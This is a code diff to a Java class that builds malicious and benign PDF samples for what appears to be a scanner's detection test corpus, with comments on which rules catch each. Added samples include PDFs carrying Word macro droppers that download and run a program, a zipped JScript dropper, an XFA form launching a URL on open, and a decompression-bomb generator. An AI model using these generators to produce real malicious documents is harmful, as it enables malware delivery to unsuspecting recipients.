@@ -3,13 +3,16 @@ package org.peekaboo.bench;
 import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.io.InputStream;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import org.apache.pdfbox.cos.COSArray;
 import org.apache.pdfbox.cos.COSDictionary;
 import org.apache.pdfbox.cos.COSName;
+import org.apache.pdfbox.cos.COSStream;
 import org.apache.pdfbox.cos.COSString;
 import org.apache.pdfbox.pdmodel.PDDocument;
 import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
@@ -50,9 +53,58 @@ public final class DropperPdfs {
         samples.add(sample(n++, "pdf-openaction-javascript.pdf",
                 openActionScript("app.launchURL('http://example.invalid/invoice', true);")));
         samples.add(sample(n++, "pdf-embedded-exe-export.pdf", embeddedExport("invoice.exe", fakeProgram())));
-        samples.add(sample(n, "pdf-attachment-js.pdf", attachmentAnnotation("Rechnung.js",
+        samples.add(sample(n++, "pdf-attachment-js.pdf", attachmentAnnotation("Rechnung.js",
                 DropperFiles.JSCRIPT.getBytes(StandardCharsets.UTF_8))));
+        // Caught by the name of the attachment, and by the macro rules once the PDF is opened.
+        samples.add(sample(n++, "pdf-attachment-docm-dropper.pdf", attachments(Map.of("Bestellung.docm",
+                wordDropper(false)))));
+        // Caught only when the PDF is opened: neither name is a program's, the members are judged.
+        samples.add(sample(n++, "pdf-attachment-doc-dropper.pdf", attachments(Map.of("Bestellung.doc",
+                wordDropper(true)))));
+        samples.add(sample(n++, "pdf-attachment-zip-js.pdf", attachments(Map.of("Rechnung.zip",
+                zip("Rechnung.js", DropperFiles.JSCRIPT.getBytes(StandardCharsets.UTF_8))))));
+        samples.add(sample(n, "pdf-xfa-initialize-launchurl.pdf", xfaForm(xfaEvent("initialize",
+                "app.launchURL(\"http://example.invalid/rechnung\", true);"), true)));
         return samples;
+    }
+
+    /**
+     * Ordinary PDFs of the kinds the droppers imitate, for the benign side of the corpus: minutes with a
+     * text and a CSV file attached, and an XFA form that computes and checks its fields.
+     */
+    static List<DropperCorpus.Sample> benign() {
+        Map<String, byte[]> files = new java.util.LinkedHashMap<>();
+        files.put("Protokoll.txt", "Protokoll der Sitzung vom 3. November.\n".getBytes(StandardCharsets.UTF_8));
+        files.put("Zahlen.csv", "Monat;Betrag\nOktober;1200,00\nNovember;980,50\n".getBytes(StandardCharsets.UTF_8));
+        return List.of(new DropperCorpus.Sample("benign-macros", "pdf-attachments-minutes.pdf", attachments(files)),
+                new DropperCorpus.Sample("benign-macros", "pdf-xfa-form.pdf", benignXfaForm()));
+    }
+
+    /**
+     * A Word document whose AutoOpen macro downloads a program with XMLHTTP and ADODB.Stream and runs it,
+     * as the corpus' macro droppers do; Word 97 ({@code .doc}) or OOXML ({@code .docm}).
+     */
+    public static byte[] wordDropper(boolean ole2) {
+        DropperMacros.Trigger trigger = DropperMacros.TRIGGERS.getFirst();
+        DropperMacros.Payload payload = DropperMacros.payloads().stream()
+                .filter(candidate -> candidate.tag().equals("xmlhttp-adodb")).findFirst().orElseThrow();
+        Map<String, String> modules = org.peekaboo.office.testing.OfficeFiles.module(trigger.module(),
+                DropperMacros.dropper(trigger, trigger.name(), payload));
+        return ole2 ? org.peekaboo.office.testing.OfficeFiles.doc(modules)
+                : org.peekaboo.office.testing.OfficeFiles.docm(modules);
+    }
+
+    /** A ZIP archive of one file. */
+    public static byte[] zip(String name, byte[] content) {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        try (java.util.zip.ZipOutputStream out = new java.util.zip.ZipOutputStream(bytes)) {
+            out.putNextEntry(new java.util.zip.ZipEntry(name));
+            out.write(content);
+            out.closeEntry();
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+        return bytes.toByteArray();
     }
 
     /** An MZ header and zeros: what a program looks like to a rule, without being one. */
@@ -131,6 +183,55 @@ public final class DropperPdfs {
         });
     }
 
+    /**
+     * Attaches each file in the document's attachments (the names tree), compressed with FlateDecode as
+     * PDF writers do; keys are the names.
+     */
+    public static byte[] attachments(Map<String, byte[]> files) {
+        return build(document -> {
+            Map<String, PDComplexFileSpecification> specifications = new java.util.LinkedHashMap<>();
+            for (Map.Entry<String, byte[]> file : files.entrySet()) {
+                specifications.put(file.getKey(), fileSpecification(document, file.getKey(),
+                        new ByteArrayInputStream(file.getValue()), COSName.FLATE_DECODE));
+            }
+            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
+            tree.setNames(specifications);
+            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+            names.setEmbeddedFiles(tree);
+            document.getDocumentCatalog().setNames(names);
+        });
+    }
+
+    /** Attaches {@code size} zero bytes as {@code name}, FlateDecode-compressed to a few kilobytes: a bomb. */
+    public static byte[] zeroBomb(String name, long size) {
+        return build(document -> {
+            InputStream zeros = new InputStream() {
+                private long left = size;
+
+                @Override
+                public int read() {
+                    return left-- > 0 ? 0 : -1;
+                }
+
+                @Override
+                public int read(byte[] buffer, int offset, int length) {
+                    if (left <= 0) {
+                        return -1;
+                    }
+                    int n = (int) Math.min(length, left);
+                    java.util.Arrays.fill(buffer, offset, offset + n, (byte) 0);
+                    left -= n;
+                    return n;
+                }
+            };
+            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
+            tree.setNames(Map.of(name, fileSpecification(document, name, zeros, COSName.FLATE_DECODE)));
+            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
+            names.setEmbeddedFiles(tree);
+            document.getDocumentCatalog().setNames(names);
+        });
+    }
+
     /** Attaches {@code content} as {@code name} by a file attachment annotation (a paper clip on the page). */
     public static byte[] attachmentAnnotation(String name, byte[] content) {
         return build(document -> {
@@ -180,6 +281,62 @@ public final class DropperPdfs {
         });
     }
 
+    /**
+     * An XFA form (as LiveCycle Designer writes them) with one field whose events are {@code events}
+     * (XFA template XML), stored as one XML stream or as the packets preamble, template, postamble.
+     */
+    public static byte[] xfaForm(String events, boolean asPackets) {
+        String preamble = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">\n";
+        String template = "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\">\n"
+                + "<subform name=\"form1\" layout=\"tb\" locale=\"de_DE\">\n"
+                + "<field name=\"amount\" w=\"50mm\" h=\"9mm\"><ui><numericEdit/></ui>\n" + events + "\n</field>\n"
+                + "</subform>\n</template>\n";
+        String postamble = "</xdp:xdp>\n";
+        return build(document -> {
+            PDAcroForm form = new PDAcroForm(document);
+            document.getDocumentCatalog().setAcroForm(form);
+            if (asPackets) {
+                COSArray packets = new COSArray();
+                for (String[] packet : new String[][] {{"preamble", preamble}, {"template", template},
+                    {"postamble", postamble}}) {
+                    packets.add(new COSString(packet[0]));
+                    packets.add(xmlStream(document, packet[1]));
+                }
+                form.getCOSObject().setItem(COSName.XFA, packets);
+            } else {
+                form.getCOSObject().setItem(COSName.XFA, xmlStream(document, preamble + template + postamble));
+            }
+        });
+    }
+
+    /** An XFA event of {@code activity} that runs {@code javaScript}, escaped for XML. */
+    public static String xfaEvent(String activity, String javaScript) {
+        return "<event activity=\"" + activity + "\" name=\"event__" + activity + "\">"
+                + "<script contentType=\"application/x-javascript\">"
+                + javaScript.replace("&", "&amp;").replace("<", "&lt;") + "</script></event>";
+    }
+
+    /**
+     * An XFA form as offices make them: a default value on initialize, a calculation, a check of the
+     * value, a message box on a click.
+     */
+    public static byte[] benignXfaForm() {
+        return xfaForm(xfaEvent("initialize", "if (this.isNull) { this.rawValue = 0; }")
+                + "<calculate><script contentType=\"application/x-javascript\">"
+                + "this.rawValue = net.rawValue * 1.19;</script></calculate>"
+                + "<validate scriptTest=\"error\"><script>this.rawValue &gt;= 0</script></validate>"
+                + xfaEvent("click", "xfa.host.messageBox(\"Bitte Betrag in Euro eingeben.\", \"Hinweis\", 3);")
+                + xfaEvent("ready", "xfa.layout.relayout();"), true);
+    }
+
+    private static COSStream xmlStream(PDDocument document, String xml) throws IOException {
+        COSStream stream = document.getDocument().createCOSStream();
+        try (java.io.OutputStream out = stream.createOutputStream(COSName.FLATE_DECODE)) {
+            out.write(xml.getBytes(StandardCharsets.UTF_8));
+        }
+        return stream;
+    }
+
     /** {@code pdf} encrypted (AES-128) with {@code userPassword}; the empty one lets every viewer open it. */
     public static byte[] encrypted(byte[] pdf, String userPassword) {
         try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(pdf)) {
@@ -197,6 +354,15 @@ public final class DropperPdfs {
             throws IOException {
         PDEmbeddedFile file = new PDEmbeddedFile(document, new ByteArrayInputStream(content));
         file.setSize(content.length);
+        return specification(name, file);
+    }
+
+    private static PDComplexFileSpecification fileSpecification(PDDocument document, String name, InputStream content,
+                                                                COSName filter) throws IOException {
+        return specification(name, new PDEmbeddedFile(document, content, filter));
+    }
+
+    private static PDComplexFileSpecification specification(String name, PDEmbeddedFile file) {
         PDComplexFileSpecification specification = new PDComplexFileSpecification();
         specification.setFile(name);
         specification.setFileUnicode(name);
